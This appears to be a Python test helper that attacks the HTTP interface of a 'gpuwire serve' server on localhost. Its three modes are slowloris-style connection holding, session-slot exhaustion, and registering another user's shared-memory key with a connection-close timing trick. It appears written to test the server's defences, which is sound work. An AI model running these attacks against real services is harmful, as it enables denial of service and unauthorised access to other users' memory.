#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What a client may try at the HTTP door of `gpuwire serve`: http_attack.py PORT slow|sessions MODEL [ADDRESS...]|ghost KEY.

ghost     registers another user's shared memory, and closes each connection before the server sees it
slow      opens connections, each with half a call, and drips a byte into each now and then
sessions  opens sessions for a queue pair that does not exist, as many as it gets, from each of its own addresses, and keeps
          the connections

Says "ready N" when it has what it gets, and holds on to it until its standard input ends.
"""
import json
import resource
import select
import socket
import sys
import time
import http.client

port, what = int(sys.argv[1]), sys.argv[2]


def slow():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
    held = []
    for _ in range(1100):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            s.sendall(b"POST /v2/rdma/sessions HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n{")
            held.append(s)
        except OSError:
            pass
    print("ready", len(held), flush=True)
    while not select.select([sys.stdin], [], [], 0.5)[0]:
        for s in held:
            try:
                s.send(b" ", socket.MSG_DONTWAIT)
            except OSError:
                pass


def sessions(model, addresses):
    wish = {"model": model, "slots": 1, "reply_addr": "0x10000", "reply_stride": 1 << 20, "reply_rkey": 1,
            "endpoint": "gw:1:00000000000000000000ffffc0000207:0000ff:000001:1024:0"}
    got = []
    for address in addresses:
        c = http.client.HTTPConnection("127.0.0.1", port, timeout=20, source_address=(address, 0))
        while True:
            c.request("POST", "/v2/rdma/sessions", json.dumps(wish))
            answer = c.getresponse()
            text = json.loads(answer.read())
            if answer.status != 201:
                print(text["error"], file=sys.stderr)
                break
            got.append((c, text["id"]))
    print("ready", len(got), flush=True)
    while not select.select([sys.stdin], [], [], 0.5)[0]:
        for c, session in got:  # it would like to keep them
            c.request("PUT", "/v2/rdma/sessions/" + session)
            c.getresponse().read()


def ghost(key):
    body = json.dumps({"key": key, "byte_size": 64}).encode()
    # Data and end go as one segment, larger than the receiver expects. So its acknowledgement comes at once, and the
    # client's end is in TIME_WAIT before the server has accepted the connection.
    head = b"POST /v2/systemsharedmemory/region/r%d/register HTTP/1.1\r\nHost: localhost\r\nX-Pad: " + b"a" * 3000
    for i in range(40):
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.send(head % i + b"\r\nContent-Length: %d\r\n\r\n" % len(body) + body, socket.MSG_MORE)
        s.close()
        time.sleep(0.002)
    print("ready 40", flush=True)


if what == "slow":
    slow()
elif what == "ghost":
    ghost(sys.argv[3])
else:
    sessions(sys.argv[3], sys.argv[4:] or ["127.0.0.1"])
